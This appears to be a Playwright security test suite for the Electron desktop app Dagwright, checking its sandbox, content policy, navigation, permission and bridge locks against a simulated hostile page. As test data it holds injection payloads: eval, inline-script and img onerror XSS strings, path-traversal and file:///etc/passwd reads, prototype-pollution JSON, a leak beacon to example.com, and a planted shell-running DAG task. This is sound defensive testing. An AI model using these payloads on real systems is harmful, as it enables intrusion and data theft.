/**
 * The desktop's locks, tried from inside with a page that is as hostile as one that an attacker has taken over, on the
 * real program: window rights, page policy, navigation, permissions, windows, and every channel of the bridge.
 */
import { existsSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "playwright/test";
import { hostChannels } from "../shared/contract/host.ts";
import { launchDesktop, type LaunchedDesktop } from "./launch-desktop.ts";

let desktop: LaunchedDesktop;

test.beforeAll(async () => {
  desktop = await launchDesktop({ trusted: false });
  writeFileSync(join(desktop.workspace, "evil.dag.yaml"), `dag: evil\ntasks:\n  t: {config_type: BashTask, bash: 'touch ${join(desktop.home, "ran")}'}\n`);
  await desktop.page.waitForLoadState("load");
});
test.afterAll(() => desktop?.close());

test("every page has no rights of its own", async () => {
  const preferences = await desktop.app.evaluate(({ webContents }) =>
    webContents.getAllWebContents().map((contents) => {
      const { sandbox, contextIsolation, nodeIntegration, nodeIntegrationInWorker, nodeIntegrationInSubFrames, webviewTag, webSecurity } = (contents as unknown as { getLastWebPreferences(): Record<string, unknown> }).getLastWebPreferences();
      return { sandbox, contextIsolation, nodeIntegration, nodeIntegrationInWorker: nodeIntegrationInWorker ?? false, nodeIntegrationInSubFrames, webviewTag, webSecurity };
    }),
  );
  const locked = { sandbox: true, contextIsolation: true, nodeIntegration: false, nodeIntegrationInWorker: false, nodeIntegrationInSubFrames: false, webviewTag: false, webSecurity: true };
  expect(preferences.length).toBeGreaterThan(0);
  for (const each of preferences) expect(each).toEqual(locked);
  expect(await desktop.page.evaluate(() => [typeof Reflect.get(globalThis, "require"), typeof Reflect.get(globalThis, "process"), typeof Reflect.get(globalThis, "Buffer")])).toEqual(["undefined", "undefined", "undefined"]);
});

test("the bridge has three functions and nothing else, and opens no file that a page made", async () => {
  expect(await desktop.page.evaluate(() => Object.entries(Reflect.get(globalThis, "host") as object).map(([name, value]) => `${name}: ${typeof value}`).sort())).toEqual(["call: function", "dropped: function", "on: function"]);
  const replies = await desktop.page.evaluate(async () => {
    type Reply = Promise<{ ok: boolean; error?: { code: string } }>;
    const host = Reflect.get(globalThis, "host") as { call(channel: string, input: object): Reply; dropped(file: unknown): Reply };
    const made = [new File(["x"], "/etc/passwd"), new Blob(["x"]), { path: "/etc/passwd" }, "/etc/passwd", null];
    return Promise.all([host.call("file.dropped", { path: "/etc/passwd" }), ...made.map((each) => host.dropped(each))]);
  });
  expect(replies.map((reply) => reply.error?.code)).toEqual(Array(6).fill("input/invalid"));
});

test("the page comes from our scheme under the strict policy", async () => {
  expect(desktop.page.url()).toMatch(/^app:\/\/dagwright\//);
  const headers = await desktop.page.evaluate(async () => Object.fromEntries((await fetch("/index.html")).headers));
  const policy = headers["content-security-policy"] ?? "";
  expect(policy.replace(/nonce-[\w-]{24}/, "nonce-N")).toBe(
    "default-src 'none'; script-src 'self'; style-src-elem 'self' 'nonce-N'; style-src-attr 'unsafe-inline'; connect-src 'self'; img-src 'self' data:; font-src 'self'; worker-src 'self'; manifest-src 'self'; object-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'",
  );
  expect(headers["x-content-type-options"]).toBe("nosniff");
  const nonces = await desktop.page.evaluate(async () => Promise.all([1, 2].map(async () => (await fetch("/index.html")).headers.get("content-security-policy"))));
  expect(nonces[0]).not.toBe(nonces[1]);
});

test("script that was not built with the page does not run", async () => {
  const outcome = await desktop.page.evaluate(async () => {
    const reports: string[] = [];
    document.addEventListener("securitypolicyviolation", (event) => reports.push(event.effectiveDirective));
    const tries: Record<string, string> = {};
    // In a turn of its own: what the test driver runs by itself may compile code, whatever the policy.
    const attempt = (name: string, act: () => unknown): void => {
      setTimeout(() => {
        try {
          act();
          tries[name] = "went";
        } catch (error) {
          tries[name] = (error as Error).name;
        }
      });
    };
    attempt("eval", () => (0, eval)("globalThis.pwned = 1"));
    attempt("Function", () => new Function("globalThis.pwned = 1")());
    attempt("innerHTML", () => (document.createElement("div").innerHTML = "<img src=x onerror='globalThis.pwned = 1'>"));
    attempt("script from elsewhere", () => document.head.append(Object.assign(document.createElement("script"), { src: "https://example.com/x.js" })));
    attempt("inline script", () => document.head.append(Object.assign(document.createElement("script"), { text: "globalThis.pwned = 1" })));
    attempt("inline handler", () => document.body.setAttribute("onclick", "globalThis.pwned = 1"));
    attempt("worker from elsewhere", () => new Worker("data:text/javascript,1"));
    const image = Object.assign(new Image(), { src: "https://example.com/leak?x=1" });
    const reached = await fetch("https://example.com/").then(() => true, () => false);
    await new Promise((done) => setTimeout(done, 300));
    return { pwned: Reflect.get(globalThis, "pwned"), tries, reached, loaded: image.naturalWidth, reports: reports.length };
  });
  expect(outcome.pwned).toBeUndefined();
  expect(outcome.tries).toEqual({ eval: "EvalError", Function: "EvalError", innerHTML: "TypeError", "script from elsewhere": "TypeError", "inline script": "TypeError", "inline handler": "TypeError", "worker from elsewhere": "TypeError" });
  expect([outcome.reached, outcome.loaded]).toEqual([false, 0]);
  expect(outcome.reports).toBeGreaterThan(0);
});

test("what lies beside the page cannot be reached by our scheme or any other", async () => {
  const addresses = ["/../package.json", "/..%2fapp%2fmain.cjs", "/%2e%2e/app/main.cjs", "/assets/..%5c..%5capp%5cmain.cjs", "/.built.json", "/index.html%00.js", "app://other/index.html", "file:///etc/passwd"];
  const statuses = await desktop.page.evaluate((list) => Promise.all(list.map((address) => fetch(address).then((reply) => reply.status, () => "refused"))), addresses);
  expect(statuses.filter((status) => status !== 404 && status !== "refused")).toEqual([]);
});

test("a page cannot leave, open windows, nest frames or use devices", async () => {
  const before = desktop.page.url();
  await desktop.app.evaluate(({ shell }) => {
    const opened: string[] = [];
    Reflect.set(globalThis, "openedExternally", opened);
    shell.openExternal = async (address: string) => void opened.push(address);
  });
  const outcome = await desktop.page.evaluate(async () => {
    const opened = ["https://example.com/a", "file:///etc/passwd", "javascript:alert(1)", "smb://host/share", "about:blank", "app://dagwright/"].map((address) => window.open(address) === null);
    for (const address of ["https://example.com/", "file:///etc/passwd", "data:text/html,x", "app://dagwright/assets/x.js"]) {
      try {
        window.location.assign(address);
      } catch {
        // Refused at once is as good.
      }
    }
    const frame = document.createElement("iframe");
    frame.src = "https://example.com/";
    document.body.append(frame, document.createElement("webview"));
    const asked = await Promise.all([
      Notification.requestPermission().catch(() => "denied"),
      navigator.mediaDevices.getUserMedia({ audio: true }).then(() => "granted", () => "denied"),
      new Promise((done) => navigator.geolocation.getCurrentPosition(() => done("granted"), () => done("denied"))),
      navigator.clipboard.readText().then(() => "granted", () => "denied"),
    ]);
    await new Promise((done) => setTimeout(done, 300));
    return { opened, asked };
  });
  expect(outcome.opened.every(Boolean)).toBe(true);
  expect(outcome.asked).toEqual(["denied", "denied", "denied", "denied"]);
  expect(desktop.page.url()).toBe(before);
  expect(desktop.app.windows().length).toBe(1);
  await expect.poll(() => desktop.app.evaluate(() => Reflect.get(globalThis, "openedExternally") as unknown)).toEqual(["https://example.com/a"]);
});

test("a window that was led to an empty page comes back", async () => {
  await desktop.page.evaluate(() => {
    Reflect.set(globalThis, "isOld", true);
    setTimeout(() => window.location.assign("about:blank"));
  });
  await expect(async () => {
    const seen = await desktop.page.evaluate(() => ({ isOld: Reflect.has(globalThis, "isOld"), isOurs: location.href.startsWith("app://dagwright/") }));
    expect(seen).toEqual({ isOld: false, isOurs: true });
  }).toPass();
  await desktop.page.waitForLoadState("load");
});

test("a hostile script with the whole bridge gets a coded answer each time, and nothing happens", async () => {
  const wanted = Number(process.env["DAGWRIGHT_BRIDGE_CALLS"] ?? 5_000);
  const seed = Number(process.env["DAGWRIGHT_SEED"]) || Date.now() % 100_000;
  test.setTimeout(60_000 + wanted * 20);
  const quiet = Object.keys(hostChannels).filter((name) => !["workspace.open", "workspace.requestTrust", "app.about", "file.save", "file.chooseExport", "workspace.reveal", "logs.reveal", "engine.restart"].includes(name));
  const outcome = await desktop.page.evaluate(async ({ channels, atMost, start }) => {
    const host = Reflect.get(globalThis, "host") as { call(channel: unknown, input: unknown): Promise<{ ok: boolean; error?: { code: string; message: string } }> };
    const cyclic: Record<string, unknown> = {};
    cyclic["self"] = cyclic;
    const inputs: unknown[] = [
      null, undefined, 0, "", "x".repeat(50_000_000), [], [1], cyclic, () => 1, Symbol.iterator.toString(), new Map([[1, 2]]), new Date(), new ArrayBuffer(8), 10n.toString(),
      { path: "../../etc" }, { path: "/etc" }, { path: "\\\\host\\share" }, { path: "C:\\con" }, { path: "/work\0space" }, { path: 7 }, { path: ["/"] },
      { url: "file:///etc/passwd" }, { url: "javascript:alert(1)" }, { url: {} }, { url: "x".repeat(5000) },
      { patch: { theme: "pink" } }, { patch: { parallelism: -1 } }, { patch: { nothing: 1 } }, { patch: "x" }, { patch: JSON.parse('{"__proto__":{"polluted":1}}') },
      JSON.parse('{"__proto__":{"polluted":1}}'), { constructor: { prototype: { polluted: 1 } } }, { toJSON: () => ({ path: "/etc" }) }, { then: (done: (value: unknown) => void) => done(1) },
      { title: 7 }, { contexts: ["root"] }, { name: "../../x", text: 1 },
    ];
    const names: unknown[] = [...channels, "", "nope", "__proto__", "constructor", "toString", "dagwright:call", "workspace.trust", "workspace.setTrusted", "shell.openPath", null, 7, {}, ["app.info"]];
    const codes: Record<string, number> = {};
    let calls = 0;
    const one = async (name: unknown, input: unknown): Promise<void> => {
      calls += 1;
      const reply = await host.call(name, input).catch((error: Error) => ({ ok: false, error: { code: "threw", message: error.message } }));
      const code = reply.ok ? "ok" : (reply.error?.code ?? "none");
      codes[code] = (codes[code] ?? 0) + 1;
      if (/\bat .*:\d+:\d+/.test(reply.error?.message ?? "")) codes["stack"] = (codes["stack"] ?? 0) + 1;
    };
    for (const name of names) for (const input of inputs) await one(name, input);
    let state = start;
    const random = (below: number): number => {
      state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
      return Math.floor((state / 2 ** 32) * below);
    };
    while (calls < atMost) {
      const key = ["path", "url", "patch", "title", "contexts", "name", "text", "x"][random(8)] ?? "x";
      await one(names[random(names.length)], random(3) === 0 ? inputs[random(inputs.length) === 4 ? 0 : random(4)] : { [key]: inputs[5 + random(inputs.length - 5)] });
    }
    return { codes, calls, polluted: ({} as Record<string, unknown>)["polluted"] };
  }, { channels: quiet, atMost: wanted, start: seed });
  test.info().annotations.push({ type: "seed", description: String(seed) }, { type: "calls", description: String(outcome.calls) });
  expect(outcome.calls).toBe(wanted);
  expect(outcome.polluted).toBeUndefined();
  expect(Object.keys(outcome.codes).filter((code) => !["ok", "input/invalid", "settings/invalid", "workspace/outside", "threw"].includes(code))).toEqual([]);
  // Only values that the bridge itself cannot carry (functions inside, symbols) may be thrown back.
  expect(outcome.codes["threw"] ?? 0).toBeLessThan(outcome.calls / 4);
  expect(existsSync(join(desktop.home, "ran"))).toBe(false);
  expect(readdirSync(join(desktop.home, "config")).filter((name) => name.startsWith("trusted"))).toEqual([]);
  expect(await desktop.app.evaluate(({ app }) => app.getName())).toBe("Dagwright");
  const current = await desktop.page.evaluate(async () => (Reflect.get(globalThis, "host") as { call(channel: string, input: object): Promise<{ value: { trusted: boolean } }> }).call("workspace.current", {}));
  expect(current.value.trusted).toBe(false);
});
